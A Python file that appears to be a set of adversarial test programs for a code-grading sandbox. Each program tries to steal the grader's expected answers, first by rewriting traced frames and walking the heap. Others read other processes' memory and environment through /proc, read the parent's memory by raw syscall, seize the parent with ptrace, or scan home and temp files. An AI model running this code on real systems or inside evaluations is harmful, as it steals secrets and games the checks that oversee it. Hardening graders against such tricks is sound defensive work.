"""Programs that look for the expected values wherever they can reach."""

THEFTS = {
  "tracing": """
    import sys
    def trace(frame, event, argument):
      if "expected" in frame.f_locals: frame.f_locals["expected"] = None
      return trace
    sys.settrace(trace); sys.setprofile(trace)
    def f(x): return None
  """,
  "search of frames, heap and files": """
    import gc, os, re, sys
    found = []
    def look(value):
      if isinstance(value, bytes): value = value.decode("latin-1")
      if isinstance(value, str):
        found.extend(re.findall("secret-[0-9]+", value))
    def search():
      frame = sys._getframe()
      while frame:
        for scope in (frame.f_locals, frame.f_globals):
          for value in list(scope.values()): look(repr(value)[:9999])
        frame = frame.f_back
      for container in gc.get_objects():
        for value in gc.get_referents(container): look(value)
      for fd in range(64):
        for read in (lambda: os.pread(fd, 1 << 16, 0), lambda: os.read(fd, 1)):
          try: look(read())
          except OSError: pass
      pids = ["self", str(os.getppid()), "1", str(os.getpid())]
      for pid in pids:
        for name in ("environ", "maps", "cmdline", "fd/3"):
          try: look(open(f"/proc/{pid}/{name}", "rb").read())
          except OSError: pass
    def f(x):
      search()
      return found[-x] if len(found) >= x else None
  """,
  "search of its own memory": """
    import ctypes, re
    found = []
    def f(x):
      for anchor in (f, found, ctypes, "", (), {}, object()):
        start = id(anchor) & ~0xFFF
        for page in range(start, start + (1 << 16), 4096):
          try: data = ctypes.string_at(page, 4096)
          except Exception: continue
          found.extend(re.findall(rb"secret-[0-9]{6,}", data))
      return found[-1].decode() if found else None
  """,
  "search of its own mappings": """
    import os, re
    def f(x):
      found = []
      with open("/proc/self/maps") as maps: lines = maps.read().splitlines()
      memory = os.open("/proc/self/mem", os.O_RDONLY)
      for line in lines:
        span, rights = line.split()[:2]
        start, end = (int(part, 16) for part in span.split("-"))
        if rights[:2] != "rw" or end - start > 1 << 24: continue
        try: data = os.pread(memory, end - start, start)
        except OSError: continue
        found += re.findall(rb"secret-[0-9]{6,}", data)
      return found[-x].decode() if found else None
  """,
  "search of everybody's memory": """
    import os, re
    found = []
    def search(pid):
      with open(f"/proc/{pid}/maps") as maps: lines = maps.read().splitlines()
      memory = os.open(f"/proc/{pid}/mem", os.O_RDONLY)
      for line in lines:
        span, rights = line.split()[:2]
        start, end = (int(part, 16) for part in span.split("-"))
        if rights[:2] != "rw" or end - start > 1 << 24: continue
        try: data = os.pread(memory, end - start, start)
        except OSError: continue
        for secret in re.findall(rb"secret-[0-9]{6,}", data):
          if secret not in found: found.append(secret)
      os.close(memory)
    def f(x):
      for pid in filter(str.isdigit, os.listdir("/proc")):
        try: found or search(pid)
        except OSError: pass
      return found[(x - 1) % len(found)].decode() if found else None
  """,
  "search of everybody's files": """
    import glob, os, re
    found = []
    def f(x):
      for pid in filter(str.isdigit, os.listdir("/proc")):
        paths = glob.glob(f"/proc/{pid}/fd/*")
        for path in [f"/proc/{pid}/environ", f"/proc/{pid}/cmdline", *paths]:
          try: descriptor = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
          except OSError: continue
          try: data = os.pread(descriptor, 1 << 20, 0)
          except OSError: data = b""
          os.close(descriptor)
          found.extend(re.findall(rb"secret-[0-9]{6,}", data))
      return found[-x].decode() if found else None
  """,
  "memory of its ancestors by system call": """
    import ctypes, os, platform, re
    libc = ctypes.CDLL(None)
    def f(x):
      number = {"x86_64": 310, "aarch64": 270}.get(platform.machine())
      found, page = [], ctypes.create_string_buffer(1 << 16)
      parent = os.getppid()
      for anchor in (f, found, ctypes, "", (), {}, object()):
        for start in range(id(anchor) & ~0xFFF, id(anchor) + 99_999, 65_536):
          local = (ctypes.c_void_p * 2)(ctypes.addressof(page), len(page))
          remote = (ctypes.c_void_p * 2)(start, len(page))
          libc.syscall(number, parent, local, 1, remote, 1, 0)
          found += re.findall(rb"secret-[0-9]{6,}", page.raw)
      return found[-x].decode() if found else None
  """,
  "ptrace of its ancestors": """
    import ctypes, os
    libc = ctypes.CDLL(None)
    libc.ptrace.restype = ctypes.c_long
    def f(x):
      if libc.ptrace(0x4206, os.getppid(), 0, 0) == 0: return "seized"
  """,
  "heap walk": """
    import gc, re, types
    def f(x):
      seen, todo, found = set(), gc.get_objects(), []
      while todo and len(seen) < 50_000:
        item = todo.pop()
        if id(item) in seen: continue
        seen.add(id(item))
        if isinstance(item, str): found += re.findall("secret-[0-9]{6,}", item)
        if isinstance(item, types.FrameType): todo += item.f_locals.values()
        todo += gc.get_referents(item)
      return found[-x] if len(found) >= x else None
  """,
  "frames of every thread and of errors": """
    import re, sys, traceback
    def f(x):
      frames = list(sys._current_frames().values())
      try: 1 / 0
      except ZeroDivisionError as error:
        frames += [frame for frame, _ in traceback.walk_tb(error.__traceback__)]
      text = ""
      for frame in frames:
        while frame:
          text += repr(frame.f_locals)[:9999]
          frame = frame.f_back
      found = re.findall("secret-[0-9]{6,}", text)
      return found[-x] if len(found) >= x else None
  """,
  "the next job on a kept descriptor": """
    import os, re, time
    def f(x):
      end = time.monotonic() + 0.02
      data = b""
      while time.monotonic() < end:
        for fd in (3, 4, 5, 10, 11, 12):
          try: data += os.pread(fd, 1 << 16, 0)
          except OSError: pass
      found = re.findall(rb"secret-[0-9]{6,}", data)
      return found[-x].decode() if len(found) >= x else None
  """,
  "files of the project and the home": """
    import glob, os, re
    def f(x):
      found = []
      places = ("~", "/tmp", "/var/tmp", "/dev/shm", "/workspace", "/home/*")
      for place in places:
        for path in glob.glob(os.path.expanduser(place) + "/*")[:200]:
          try: data = open(path, "rb").read(1 << 16)
          except OSError: continue
          found += re.findall(rb"secret-[0-9]{6,}", data)
      return found[-x].decode() if len(found) >= x else None
  """,
}
